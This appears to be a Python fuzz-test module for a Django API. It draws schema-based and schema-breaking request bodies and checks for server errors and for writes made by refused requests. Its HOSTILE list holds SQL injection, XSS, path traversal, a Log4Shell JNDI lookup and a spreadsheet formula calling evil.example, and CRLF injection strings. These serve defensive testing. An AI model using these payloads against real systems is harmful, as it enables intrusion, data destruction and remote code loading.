"""A fuzzer of the API, from its own OpenAPI schema: for every write operation (POST, PUT, PATCH,
DELETE) Hypothesis draws bodies that follow the schema, bodies that break it (wrong types, missing or
unknown fields, huge numbers, hostile text) and ids in the path, sent as an admin and as a unit officer.
Each answer must be below 500 with no traceback, and a refused request must have written nothing (no row
in any table, no audit record). Used by the short run of `make test` and the long one of `benchmarks/`."""

import json
import os
import string
from collections import Counter
from datetime import UTC, date, datetime

from django.apps import apps
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cloudmove.core.models import AuditRecord

HOSTILE = st.sampled_from([
    "' OR '1'='1' --", '"; DROP TABLE core_unit; --', '<script>alert(1)</script>', '../../../etc/passwd', '\x00',
    '\u202egnp.exe', '%s%s%s%n', '{{7*7}}', '${jndi:ldap://evil.example/a}', 'NaN', '-1', '1e309', ' ', '',
    '𝕏' * 300, 'a' * 5000, '=HYPERLINK("http://evil.example")', '\r\nSet-Cookie: x=1', 'null', '[]', '{}'])
JSON_ANY = st.recursive(
    st.none() | st.booleans() | st.integers(-2 ** 70, 2 ** 70) | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=30) | HOSTILE,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(string.ascii_lowercase, max_size=8), inner,
                                                                 max_size=3),
    max_leaves=6)
BOUND = 2 ** 63 - 1
IDS = []  # the ids of the rows there are (filled by Fuzzer): a database's sequences need not start at 1


def _resolve(schema, components):
    while isinstance(schema, dict) and '$ref' in schema:
        schema = components[schema['$ref'].rsplit('/', 1)[-1]]
    return schema


def valid(schema, components, depth=0):
    """Values that follow `schema` (the subset drf-spectacular writes), with hostile text where text goes."""
    schema = _resolve(schema, components)
    if depth > 4 or not isinstance(schema, dict):
        return JSON_ANY
    if 'allOf' in schema:
        return valid(schema['allOf'][0], components, depth + 1)
    if 'oneOf' in schema or 'anyOf' in schema:
        return st.one_of([valid(s, components, depth + 1) for s in schema.get('oneOf') or schema['anyOf']])
    base = _typed(schema, components, depth)
    return st.none() | base if schema.get('nullable') else base


def _typed(schema, components, depth):
    kind = schema.get('type')
    if 'enum' in schema:
        return st.sampled_from([v for v in schema['enum'] if v is not None] or [''])
    if kind == 'integer':
        low, high = max(schema.get('minimum', -BOUND), -BOUND), min(schema.get('maximum', BOUND), BOUND)
        ids = [i for i in IDS if low <= i <= high]  # ids of objects that exist, most of the time
        return (st.sampled_from(ids) if ids else st.nothing()) | st.integers(low, high)
    if kind == 'number':
        return st.floats(schema.get('minimum'), schema.get('maximum'), allow_nan=False, allow_infinity=False)
    if kind == 'boolean':
        return st.booleans()
    if kind == 'array':
        return st.lists(valid(schema.get('items', {}), components, depth + 1), max_size=3)
    if kind == 'object' or 'properties' in schema:
        return body(schema, components, depth)
    fmt = schema.get('format')
    if fmt == 'date':
        return st.dates(date(1990, 1, 1), date(2060, 12, 31)).map(date.isoformat)
    if fmt == 'date-time':
        return st.datetimes(datetime(1990, 1, 1), datetime(2060, 1, 1), timezones=st.just(UTC)).map(
            datetime.isoformat)
    if fmt == 'email':
        return st.emails().map(str)
    if fmt == 'uri':
        return st.sampled_from(['https://cong.example.gov.vn/a', 'http://127.0.0.1:1/x']) | HOSTILE
    return st.text(max_size=min(schema.get('maxLength', 60), 120)) | HOSTILE


def body(schema, components, depth=0):
    schema = _resolve(schema, components)
    props = {k: v for k, v in schema.get('properties', {}).items() if not _resolve(v, components).get('readOnly')}
    required = [k for k in schema.get('required', []) if k in props]
    return st.fixed_dictionaries({k: valid(props[k], components, depth + 1) for k in required},
                                 optional={k: valid(v, components, depth + 1) for k, v in props.items()
                                           if k not in required})


def broken(schema, components):
    """A body that breaks the schema: any JSON at all, or its fields with values of any type."""
    props = list(_resolve(schema, components).get('properties', {})) if schema else []
    fields = st.dictionaries(st.sampled_from(props), JSON_ANY, max_size=len(props)) if props else JSON_ANY
    return JSON_ANY | fields


def operations(schema):
    """(path, method, request schema or None) of every write operation that takes JSON."""
    out = []
    for path, item in sorted(schema['paths'].items()):
        for method in ('post', 'put', 'patch', 'delete'):
            op = item.get(method)
            if op is None:
                continue
            content = (op.get('requestBody') or {}).get('content', {})
            if content and 'application/json' not in content:
                continue  # uploads (multipart files): the importers' fuzzers cover what they read
            out.append((path, method, content.get('application/json', {}).get('schema')))
    return out


# A refused sign-in is counted on purpose (the lockout's failed attempts); sessions come and go.
NOT_DATA = {'axes', 'sessions'}


def _counts():
    return tuple(m._default_manager.count() for m in apps.get_models()
                 if not m._meta.proxy and m._meta.app_label not in NOT_DATA)


class Fuzzer:
    def __init__(self, clients, schema, examples=None):
        self.clients = clients
        self.schema = schema
        self.components = schema.get('components', {}).get('schemas', {})
        self.examples = examples or int(os.environ.get('CLOUDMOVE_FUZZ_EXAMPLES', 3))
        self.cases = Counter()
        self.answers = Counter()  # by class: 2xx accepted, 4xx refused
        self.failures = []
        numbered = [m for m in apps.get_models()
                    if not m._meta.proxy and m._meta.pk.get_internal_type() in ('AutoField', 'BigAutoField')]
        IDS[:] = sorted({pk for m in numbered for pk in m._default_manager.values_list('pk', flat=True)[:60]})

    def run(self):
        ops = operations(self.schema)
        for path, method, request_schema in ops:
            self.run_operation(path, method, request_schema)
        return len(ops)

    def run_operation(self, path, method, request_schema):
        if request_schema is not None:
            bodies = body(request_schema, self.components) | broken(request_schema, self.components)
        else:
            bodies = st.none()
        params = [p.strip('{}') for p in path.split('/') if p.startswith('{')]

        @settings(max_examples=self.examples, deadline=None, database=None, derandomize=True,
                  suppress_health_check=list(HealthCheck))
        @given(who=st.sampled_from(sorted(self.clients)), data=bodies,
               ids=st.fixed_dictionaries({p: st.sampled_from(IDS or [1]) | st.integers(-5, 10 ** 12) for p in params}))
        def one(who, data, ids):
            self.send(who, path.format(**ids), method, data)

        one()

    def send(self, who, url, method, data):
        client = self.clients[who]
        before = AuditRecord.objects.count(), _counts()
        try:
            payload = json.dumps(data)
        except (TypeError, ValueError):
            return
        response = getattr(client, method)(url, payload, content_type='application/json')
        self.cases[method] += 1
        self.answers[f'{response.status_code // 100}xx'] += 1
        text = response.content.decode('utf-8', 'replace') if not response.streaming else ''
        case = f'{who} {method.upper()} {url} {payload[:200]}'
        if response.status_code >= 500 or 'Traceback' in text:
            self.failures.append(f'{case}: {response.status_code} {text[:300]}')
        elif response.status_code >= 400 and (AuditRecord.objects.count(), _counts()) != before:
            self.failures.append(f'{case}: refused with {response.status_code} but wrote something')
